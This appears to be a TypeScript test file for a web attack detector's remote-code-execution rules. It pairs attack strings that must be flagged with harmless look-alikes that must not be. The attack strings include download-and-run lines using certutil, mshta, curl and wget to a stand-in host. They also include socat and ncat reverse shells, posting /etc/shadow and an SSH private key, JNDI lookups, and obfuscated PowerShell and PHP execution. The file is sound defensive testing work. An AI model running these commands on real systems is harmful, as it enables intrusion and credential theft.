/**
 * The fourth rce round (docs/detection.md, "The rce language round, fourth session"): command
 * lines whose only shell character is `/` (Windows programs fetching a URL, a program given an
 * absolute path or a socket address), cmd.exe switches before `/c`, PowerShell as it reads a line
 * (backtick escapes, a name concatenated and called, script blocks and assemblies built from
 * text), object tags of Ruby's YAML, Ghostscript's pipe device, Python compiling a string, a JNDI
 * name with a remote scheme without its `${...}`, a JavaScript constructor chain written with
 * colons, PHP names indexed out of an array literal and called, a snake_case call left open; and
 * a whole script shown as text (a compound command from its keyword to its end, the lines after a
 * package manager's line), whose own commands are no injection. Each class has look-alikes that
 * must stay quiet: prose with `and/or`, format strings, JNDI names of an application server,
 * Windows paths, CSV formulas, math, framework session cookies.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import type { AttackClass } from '../../../node/records/types';
import { classesAt, exampleTable, RELAXED, tx, written } from './helpers';

const detector = new AttackDetector(RELAXED);

const ATTACKS: Array<[AttackClass, string]> = [
  // A command line whose only shell character is `/`: a Windows program given a URL, a share or a
  // script URL, any options before it; a program given an absolute path or a socket address.
  ['rce', 'certutil -urlcache -split -f http://dl.example.net/p.exe p.exe'],
  ['rce', 'certutil.exe -verifyctl -f http://dl.example.net/p.bin'],
  ['rce', 'mshta http://dl.example.net/run.hta'],
  ['rce', 'regsvr32 /s /u /i:http://dl.example.net/x.sct scrobj.dll'],
  ['rce', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"'],
  ['rce', 'ansible-playbook /srv/deploy/site.yml'],
  ['rce', 'chmod 4755 /tmp/sh'],
  ['rce', 'tasklist /svc'],
  ['rce', 'socat tcp-connect:203.0.113.9:9001 exec:bash'],
  // Windows command lines whose words are no prose: WMIC's alias then verb, the registry tool given
  // a hive, cmd.exe's timing probes, a task scheduled to run a program.
  ['rce', 'wmic os get caption'],
  ['rce', 'wmic /node:203.0.113.9 process call create "calc.exe"'],
  ['rce', 'reg query HKLM\\SYSTEM\\CurrentControlSet'],
  ['rce', 'timeout /t 12'],
  ['rce', 'waitfor /t 12 sig'],
  ['rce', 'schtasks /create /sc minute /tn t /tr C:\\t\\run.exe'],
  // Options handed to a program: find's `-exec` as the whole value, an HTTP client sending a system file.
  ['rce', '-exec hostname \\;'],
  ['rce', '-execdir sh {} +'],
  ['rce', '--post-file=/etc/shadow'],
  ['rce', 'x --data-binary @/root/.ssh/id_rsa'],
  // cmd.exe switches before `/c`.
  ['rce', 'cmd /v:on /c "set p=whoami&& !p!"'],
  ['rce', 'cmd.exe /q /d /c dir'],
  // PowerShell: backtick escapes inside names, a concatenated name called, text run as code.
  ['rce', 'Inv`oke-Ex`pression hostname'],
  ['rce', 'wh`oami'],
  ['rce', '&("who"+"ami")'],
  ['rce', ".('ie'+'x') 'hostname'"],
  ['rce', "[ScriptBlock]::Create('hostname').Invoke()"],
  ['rce', '[System.Reflection.Assembly]::LoadFile($p)'],
  ['rce', "$ExecutionContext.InvokeCommand.ExpandString('x')"],
  // Object tags of Ruby's YAML, Ghostscript's pipe device, Python compiling text, Ruby's %x().
  ['rce', '--- !ruby/object:Gem::Requirement'],
  ['rce', '!ruby/hash:ActionDispatch::Routing::RouteSet'],
  ['rce', '(%pipe%touch /tmp/x) (w) file'],
  ['rce', "exec(compile('print(1)', 'f', 'exec'))"],
  ['rce', '%x[hostname]'],
  ['rce', 'v=%x<id>'],
  // A JNDI name with a remote scheme, however the lookup around it is spelled.
  ['rce', 'jndi:rmi://203.0.113.9:1099/obj'],
  ['rce', '$&lbracejndi:ldaps://cb.example.net/a}'],
  // A constructor chain written with colons (a reference path of a serialized React payload).
  ['rce', '{"then":"$1:constructor:constructor"}'],
  // A loop on a constant true condition in any number of parentheses.
  ['rce', 'while ((1)))'],
  // PHP: a risky name in an array literal, indexed, then called; a constant holding a
  // concatenated name, indexed and called; an output function given arithmetic, glued to a word.
  ['rce', "{[shell_exec][0]} ('uname -a');"],
  ['rce', "(  [  exec  ]  [  0  ]  )  {/* x */0}  (  'id'  );"],
  ['rce', "define('k', [['pass' . 'thru']]);(k)[0][0]('id');"],
  ['rce', 'triggerprint_r(1337*7331);'],
  // bash's parameter expansions that no template writes: a length, a prefix removed, case changed.
  ['rce', '${#SHELL}'],
  ['rce', '${HOME##*/}'],
  ['rce', '${cmd,,}'],
  // A timing probe whose number carries a comment glued to it.
  ['rce', 'q;sleep 7#'],
  // A line break written as `\\n` after a separator or at the start, as an unescaping application passes it.
  ['rce', ';\\n.shell ncat 203.0.113.9 9001 -e bash'],
  ['rce', '\\nuname'],
  // A snake_case function opened and left so.
  ['rce', 'mb_str_split ('],
  ['rce', 'stream_context_create('],
];

const LOOK_ALIKES = [
  // Prose with a program's name and a slash that is no path.
  'docker and kubernetes/helm guide',
  'python 3/4 cup',
  'curl and/or wget',
  'node v18/v20 support',
  'mshta is a Windows utility',
  'Use Invoke-WebRequest to download files',
  'cmd /?',
  // A backtick typed for an apostrophe; a C format string.
  'don`t forget the milk',
  'printf("%x(%d)", a, b)',
  // Template placeholders a JavaScript or Compose file writes; a Windows path with `\\n` in it.
  '${!flag}',
  '${count % 2}',
  '${PORT:-8080}',
  '${total/count}',
  'c:\\new\\file.txt',
  'sleep 5#tag',
  // Prose naming Windows tools; a snippet's find command line; a client posting a document.
  'reg is the registry tool',
  'wmic is deprecated',
  'timeout after 10 seconds',
  "find . -name '*.log' -exec gzip {} \\;",
  'use find with -exec rm {} \\; carefully',
  '--post-file=report.txt',
  // JNDI names of an application server.
  'spring.datasource.jndi-name=java:comp/env/jdbc/app',
  'Use JNDI names such as java:comp/env/jdbc/ds',
  // A loop on a variable; a label left open; a call on a parenthesised name without concatenation.
  'while((x > 1))',
  'Size (',
  "(x)[0]('a')",
  // Windows paths, a CSV formula, math.
  'C:/Users/me/Documents/report.docx',
  '=SUM(A1:A3)',
  'x^2 + y^2',
  // Session cookies of well-known frameworks: Rails (Marshal in base64, signed), Laravel
  // (encrypted JSON), Flask (signed JSON), ASP.NET view state (a page's pairs), PHP sessions.
  'BAh7CEkiD3Nlc3Npb25faWQGOgZFVEkiJWE0ZjNlMmQxYzBiOWE4Nzc2NjU1NDQzMzIyMTEwMGZmBjsAVA==--3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a',
  'eyJpdiI6IkRmM3VBZ0l4dz09IiwidmFsdWUiOiJ4eUZoT2c9PSIsIm1hYyI6ImFiY2RlZiIsInRhZyI6IiJ9',
  'eyJ1c2VyX2lkIjo0Mn0.ZkZ3Tg.abcdefghijklmnopqrstuvwxyz0',
  '/wEPDwUKLTEzNjI4NTY3MGRkZmFjZWJvb2s=',
  'a:2:{s:4:"user";s:5:"alice";s:4:"cart";a:1:{i:0;i:42;}}',
];

exampleTable(detector, ATTACKS, LOOK_ALIKES, ['q', 'json', 'form'], ['rce']);

/**
 * Whole scripts shown as text (a snippet's code, a ticket's recipe): their own substitutions and
 * later lines are no injection; what an attack needs still counts inside them.
 */
const SCRIPTS_QUIET = [
  'for i in $(seq 1 10); do echo "run $i"; done',
  'if [ "$(id -u)" -ne 0 ]; then echo "run as root"; exit 1; fi',
  'pip install requests\npython -m http.server 8000',
  'npm install --save express\nnode server.js',
  'pip install -r requirements.txt\npython manage.py migrate',
  'npm ci\nnpm run build\nnode dist/server.js',
  '#!/bin/bash\nset -euo pipefail\nnpm ci\nnpm test',
  '#!/usr/bin/env sh\nmake build\nmake install PREFIX=~/.local',
  // Quiet before this round too: a line of a program of no list.
  'gem install rails\nrails new blog',
];
const SCRIPTS_FOUND = [
  'for f in $(cat /etc/passwd); do echo $f; done',
  'for u in $(whoami); do echo $u; done',
  'pip install requests\ncat /etc/shadow',
  'pip install requests\nwhoami',
  "npm install x\nwh''oami",
  'npm install\ncurl http://dl.example.net/a.sh | sh',
  '#!/bin/sh\nwget http://dl.example.net/a -O /tmp/a; chmod +x /tmp/a; /tmp/a',
  '#!/bin/bash\ncat /etc/shadow',
  // Not a package manager's line: the next line is a command as before.
  'x\npython -m http.server 8000',
  '127.0.0.1\nnode server.js',
];

for (const v of SCRIPTS_QUIET) {
  test(`script shown as text: ${JSON.stringify(v)}`, () => {
    for (const where of ['json', 'form', 'q'] as const) assert.ok(!classesAt(detector, where, v).includes('rce'), where);
  });
}
for (const v of SCRIPTS_FOUND) {
  test(`attack in or without a script: ${JSON.stringify(v)}`, () => {
    for (const where of ['json', 'form', 'q'] as const) assert.ok(classesAt(detector, where, v).includes('rce'), where);
  });
}

test('an alias defined and run across the pairs of a form body read whole', () => {
  const found = detector.detect(tx(written('form', 'cmd=alias k=c${Z}url&k dl.example.net')))?.hits.map((h) => h.class) ?? [];
  assert.ok(found.includes('rce'), found.join());
  const quiet = detector.detect(tx(written('form', 'nickname=alias bob=robert&note=hi there')))?.hits.map((h) => h.class) ?? [];
  assert.deepEqual(quiet, []);
});
